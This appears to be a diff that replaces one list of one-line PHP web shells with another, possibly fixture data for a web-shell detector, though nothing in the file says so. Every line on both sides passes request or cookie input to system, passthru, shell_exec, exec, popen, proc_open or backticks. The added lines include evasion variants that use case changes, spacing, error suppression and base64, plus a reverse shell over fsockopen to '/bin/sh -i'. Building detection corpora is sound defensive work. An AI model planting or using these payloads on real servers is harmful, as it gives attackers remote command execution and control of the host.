@@ -1,21 +1,21 @@
-<?php system($_POST['c']); ?>
-<?php system($_REQUEST['c']); ?>
-<?php system(base64_decode($_GET['c'])); ?>
-<?php passthru($_GET['c']); ?>
-<?php passthru($_REQUEST['c']); ?>
-<?php echo shell_exec($_GET['c']); ?>
-<?php echo shell_exec($_POST['c']); ?>
-<?php echo shell_exec($_REQUEST['c']); ?>
-<?php exec($_GET['c'], $o); print_r($o); ?>
-<?php exec($_POST['c'], $o); print_r($o); ?>
-<?php exec($_REQUEST['c'], $o); print_r($o); ?>
-<?php $h = popen($_GET['c'], 'r'); echo fread($h, 4096); ?>
-<?php $h = popen($_POST['c'], 'r'); echo fread($h, 4096); ?>
-<?php $h = popen($_REQUEST['c'], 'r'); echo fread($h, 4096); ?>
-<?php $p = proc_open($_GET['c'], array(1 => array('pipe', 'w')), $pipes); ?>
-<?php $p = proc_open($_POST['c'], array(1 => array('pipe', 'w')), $pipes); ?>
-<?php $p = proc_open($_REQUEST['c'], array(1 => array('pipe', 'w')), $pipes); ?>
-<?php pcntl_exec($_GET['c']); ?>
-<?php $o = `$_POST[c]`; echo $o; ?>
-<?php $o = `$_GET[c]`; echo $o; ?>
-<?php $o = `$_REQUEST[c]`; echo $o; ?>
+<?php SYSTEM($_GET['cmd']); ?>
+<?php system ( $_POST [ "c" ] ) ; ?>
+<?php @system(@$_REQUEST['c']); ?>
+<?php system(base64_decode($_COOKIE['c'])); ?>
+<?php PassThru($_GET['c']); ?>
+<?php echo Shell_Exec( $_POST['c'] ); ?>
+<?php echo shell_exec(/* quiet */ @$_REQUEST['c']); ?>
+<?php Exec($_GET['c'], $o); print_r($o); ?>
+<?php exec( $_REQUEST[ 'c' ] ); ?>
+<?php $h = popen($_POST['c'], 'r'); ?>
+<?php $p = PROC_OPEN($_GET['c'], array(), $pipes); ?>
+<?php pcntl_exec('/bin/sh', array('-c', $x)); ?>
+<?php echo `$_GET[c]`; ?>
+<?php $o = ` $_POST['c'] `; echo $o; ?>
+<?php $a = $_POST['c']; $r = ( `$_POST[c]` ); ?>
+<?php $sock = fsockopen($ip, $port); proc_open('/bin/sh -i', array(0=>$sock,1=>$sock,2=>$sock), $p); ?>
+<?php if (!empty($_POST['c'])) { if (function_exists('shell_exec')) echo shell_exec($_POST['c']); elseif (function_exists('passthru')) passthru($_POST['c']); } ?>
+<?php echo ini_get('disable_functions'); echo shell_exec($_POST['c']); ?>
+<?php echo php_uname(); if ($_GET['c']) passthru($_GET['c']); ?>
+<?php echo "uname -a"; exec($_POST['c']); ?>
+<?php $c = new COM("Shell.Users"); ?>
